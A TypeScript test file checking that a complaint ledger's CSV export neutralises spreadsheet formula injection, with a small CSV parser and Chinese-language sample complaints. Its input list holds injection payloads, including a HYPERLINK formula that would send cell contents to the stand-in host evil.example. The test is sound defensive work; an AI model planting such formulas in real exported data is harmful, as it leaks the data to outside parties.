import { expect, it } from 'vitest';
import type { Runtime } from '../../src/bootstrap';
import { createApiToken } from '../../src/repo/api-tokens';
import { describeOnDatabases } from '../helpers/databases';
import { createTestClock, createTestRuntime, localMessage } from '../helpers/runtime';

/** Minimal CSV reader for the test: quoted fields, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(field), (field = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += ch;
  }
  return rows;
}

describeOnDatabases('ledger CSV', (db) => {
  let rt: Runtime;
  const clock = createTestClock('2026-11-23T02:00:00Z');

  it('never exports a cell a spreadsheet would run as a formula', async () => {
    rt = await createTestRuntime(db(), { now: clock.now });
    const token = await createApiToken(rt.services.db, 'wangmin', 'test', clock.now());
    const attacks = ['=HYPERLINK("https://evil.example/?"&A1,"点此查看") 园区路灯坏了半年了没人修', '+SUM(1,2) 园区路灯坏了', '-2+3 用电报装一个月没接通', '@SUM(A1) 厂房漏水', '\t=1+1 路灯不亮', '\r=1+1 路灯不亮'];
    for (const text of attacks) await rt.services.pipeline.receive(localMessage('qs-jixie-liu', text, { receivedAt: clock.now() }));
    const res = await rt.app.request('/api/v1/ledger?month=2026-11&format=csv', { headers: { authorization: `Bearer ${token}` } });
    expect(res.status).toBe(200);
    const rows = parseCsv((await res.text()).replace(/^\uFEFF/, ''));
    const contentCol = rows[0]!.indexOf('诉求内容');
    const contents = rows.slice(1).map((r) => r[contentCol]!);
    expect(contents.length).toBeGreaterThanOrEqual(attacks.length);
    for (const cell of rows.slice(1).flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    // The text is kept, behind a quote mark that spreadsheets show as text.
    expect(contents).toContain(`'=HYPERLINK("https://evil.example/?"&A1,"点此查看") 园区路灯坏了半年了没人修`);
    await rt.close();
  });
});
